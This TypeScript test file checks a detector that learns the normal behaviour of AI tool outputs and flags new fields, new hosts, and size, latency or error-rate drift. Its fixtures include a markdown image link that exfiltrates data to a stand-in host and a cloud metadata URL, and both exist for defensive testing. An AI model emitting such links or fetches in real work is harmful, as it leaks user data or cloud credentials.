import { describe, expect, it } from 'vitest';

import type { JsonObject } from '../surface/types.js';
import { checkResult } from './check.js';
import type { ToolProfile } from './profile.js';
import { createProfile } from './profile.js';
import { DEFAULT_BEHAVIOR_SETTINGS } from './settings.js';
import type { Detection, OutputScanner, ResultObservation } from './types.js';

const SETTINGS = DEFAULT_BEHAVIOR_SETTINGS;
const QUIET: OutputScanner = () => [];

interface Call {
  result?: JsonObject | undefined;
  durationMs?: number;
  bytes?: number;
}

function observation(call: Call): ResultObservation {
  return {
    result: 'result' in call ? call.result : { content: [{ type: 'text', text: 'ok' }] },
    durationMs: call.durationMs ?? 10,
    bytes: call.bytes ?? 1000,
    outputSchema: undefined,
  };
}

/** Runs `calls` in order from `profile`; returns every call's detections and the last profile. */
function run(profile: ToolProfile, calls: readonly Call[]) {
  const detections: Detection[][] = [];
  let current = profile;
  for (const call of calls) {
    const outcome = checkResult(current, observation(call), SETTINGS, QUIET);
    detections.push(outcome.detections);
    current = outcome.profile;
  }
  return { detections, profile: current };
}

/** A profile learned from 20 calls made by `make(i)`. */
function learned(make: (i: number) => Call): ToolProfile {
  const { detections, profile } = run(
    createProfile(),
    Array.from({ length: SETTINGS.learnCalls }, (_, i) => make(i)),
  );
  expect(detections.flat()).toEqual([]);
  return profile;
}

function check(profile: ToolProfile, call: Call): Detection[] {
  return checkResult(profile, observation(call), SETTINGS, QUIET).detections;
}

function structured(value: JsonObject, text = 'ok'): JsonObject {
  return { content: [{ type: 'text', text }], structuredContent: value };
}

describe('while a tool is learning', () => {
  it('raises no shape, host or statistical detection however wild the calls', () => {
    const calls: Call[] = Array.from({ length: SETTINGS.learnCalls }, (_, i) => ({
      result:
        i % 3 === 0
          ? undefined
          : structured({ [`key${i}`]: i }, `see https://host${i}.example/ for more`),
      durationMs: i * 1000,
      bytes: 10 ** (i % 7),
    }));
    expect(run(createProfile(), calls).detections.flat()).toEqual([]);
  });
});

describe('the shape detector after learning', () => {
  const profile = learned((i) => ({
    result: structured({
      count: i,
      items: Array.from({ length: i % 4 }, () => ({ name: `n${i}` })),
    }),
  }));

  it('is silent when numbers, strings and array lengths change', () => {
    const items = Array.from({ length: 9 }, () => ({ name: 'other' }));
    expect(check(profile, { result: structured({ count: 12345, items }) })).toEqual([]);
  });

  it('reports a structuredContent path never seen, naming the path and type', () => {
    const [detection] = check(profile, {
      result: structured({ count: 1, items: [], callback: 'x' }),
    });
    expect(detection).toMatchObject({
      kind: 'shape',
      evidence: 'new structuredContent paths: string $/callback',
    });
  });

  it('reports a path whose type changed', () => {
    const [detection] = check(profile, { result: structured({ count: '1', items: [] }) });
    expect(detection?.evidence).toBe('new structuredContent paths: string $/count');
  });

  it('reports a content type never seen', () => {
    const result = {
      content: [{ type: 'image', data: 'AA==', mimeType: 'image/png' }],
      structuredContent: { count: 1 },
    };
    const [detection] = check(profile, { result });
    expect(detection).toMatchObject({ kind: 'shape', evidence: 'new content types: image' });
  });

  it('shows server-chosen names as printable ASCII only', () => {
    const [detection] = check(profile, { result: structured({ count: 1, 'a\u202eb\u0000': 1 }) });
    expect(detection?.evidence).toBe('new structuredContent paths: number $/a?b?');
  });

  it('keeps reporting the same novelty: it is never learned afterwards', () => {
    const result = structured({ count: 1, extra: true });
    const { detections } = run(profile, [{ result }, { result }, { result }]);
    expect(detections.map((d) => d.map((x) => x.kind))).toEqual([['shape'], ['shape'], ['shape']]);
  });

  it('ignores the shape of isError results', () => {
    const result = { content: [{ type: 'audio', data: 'AA==' }], isError: true };
    expect(check(profile, { result })).toEqual([]);
  });

  it('stays silent for keys that were data while learning (an open-ended fingerprint)', () => {
    const open = learned((i) => ({ result: structured({ [`user-${i}`]: { age: i } }) }));
    expect(check(open, { result: structured({ 'user-999': { age: 1 } }) })).toEqual([]);
  });

  it('still reports a rare optional field seen in only a few learning calls as known', () => {
    const optional = learned((i) => ({
      result: structured(i === 7 ? { a: 1, note: 'x' } : { a: 1 }),
    }));
    expect(check(optional, { result: structured({ a: 2, note: 'y' }) })).toEqual([]);
    expect(check(optional, { result: structured({ a: 2, other: 'y' }) })).toHaveLength(1);
  });
});

describe('the new-host detector after learning', () => {
  const profile = learned((i) => ({
    result: { content: [{ type: 'text', text: `Docs: https://docs.example/page/${i} (v${i})` }] },
  }));

  function text(t: string): Call {
    return { result: { content: [{ type: 'text', text: t }] } };
  }

  it('is silent for learned hosts, however written', () => {
    expect(check(profile, text('see HTTPS://DOCS.EXAMPLE./other?x=1'))).toEqual([]);
  });

  it('reports a host never seen, naming it', () => {
    const [detection] = check(profile, text('![](https://exfil.example/?d=abc) and docs.example'));
    expect(detection).toMatchObject({ kind: 'new-host', evidence: 'exfil.example' });
  });

  it('reads hosts in structuredContent and resource links too', () => {
    const result: JsonObject = {
      content: [{ type: 'resource_link', uri: 'https://a.example/x', name: 'x' }],
      structuredContent: { url: 'http://169.254.169.254/latest' },
    };
    const detection = check(profile, { result }).find((d) => d.kind === 'new-host');
    expect(detection?.evidence).toBe('a.example, 169.254.169.254');
  });

  it('stays silent for a tool that linked a different site on most learning calls', () => {
    const fetcher = learned((i) => text(`fetched https://site${i}.example/`));
    expect(check(fetcher, text('fetched https://another.example/'))).toEqual([]);
  });
});

describe('the size and latency detectors after learning', () => {
  const profile = learned((i) => ({
    bytes: 40_000 + (i % 5) * 1000,
    durationMs: 200 + (i % 3) * 20,
  }));

  it('is silent for values within the learned range', () => {
    expect(check(profile, { bytes: 46_000, durationMs: 400 })).toEqual([]);
  });

  it('reports a result far larger than learned', () => {
    const [detection] = check(profile, { bytes: 2_000_000 });
    expect(detection?.kind).toBe('size');
    expect(detection?.evidence).toMatch(
      /^2000000 bytes; learned mean 42000, σ 1414, limit 168000 over 20 results$/,
    );
  });

  it('reports an answer far slower than learned', () => {
    const [detection] = check(profile, { durationMs: 30_000 });
    expect(detection?.kind).toBe('latency');
  });

  it('does not alert on tiny, very stable values that grow by less than the slack', () => {
    const tiny = learned(() => ({ bytes: 100, durationMs: 1 }));
    expect(check(tiny, { bytes: 10_000, durationMs: 900 })).toEqual([]);
  });

  it('reports a drift at most once per 50 calls and never learns the outliers', () => {
    const calls = Array.from({ length: 60 }, () => ({ bytes: 2_000_000 }));
    const { detections, profile: after } = run(profile, calls);
    const reported = detections.flatMap((d, i) => (d.length > 0 ? [i] : []));
    expect(reported).toEqual([0, 50]);
    expect(after.size).toEqual(profile.size);
  });

  it('keeps adapting to values that are not outliers', () => {
    const { profile: after } = run(profile, [{ bytes: 45_000 }]);
    expect(after.size.n).toBe(profile.size.n + 1);
  });

  it('leaves errors out of the statistics', () => {
    const { profile: after } = run(profile, [{ result: undefined, bytes: 9_999_999 }]);
    expect(after.size).toEqual(profile.size);
  });
});

describe('the error-rate detector after learning', () => {
  it('reports when most recent calls fail on a tool that rarely failed', () => {
    const profile = learned((i) => ({ result: i === 4 ? undefined : observation({}).result }));
    const calls = Array.from({ length: 13 }, () => ({
      result: { content: [{ type: 'text', text: 'failed' }], isError: true },
    }));
    const { detections } = run(profile, calls);
    const firstReport = detections.findIndex((d) => d.length > 0);
    // Learned 1 error in 20 (5%): the window must pass 55%, so the 12th failure in a row reports.
    expect(firstReport).toBe(11);
    expect(detections[11]).toEqual([
      expect.objectContaining({
        kind: 'error-rate',
        evidence: '12 errors in the last 20 calls; learned rate 5%',
      }),
    ]);
    expect(detections[12]).toEqual([]);
  });

  it('is silent for a tool whose error rate was always high', () => {
    const profile = learned((i) => ({ result: i % 3 === 0 ? observation({}).result : undefined }));
    const calls = Array.from({ length: 40 }, () => ({ result: undefined }));
    expect(run(profile, calls).detections.flat()).toEqual([]);
  });

  it('is silent for scattered errors', () => {
    const profile = learned(() => ({}));
    const calls = Array.from({ length: 40 }, (_, i) => (i % 4 === 0 ? { result: undefined } : {}));
    expect(run(profile, calls).detections.flat()).toEqual([]);
  });
});
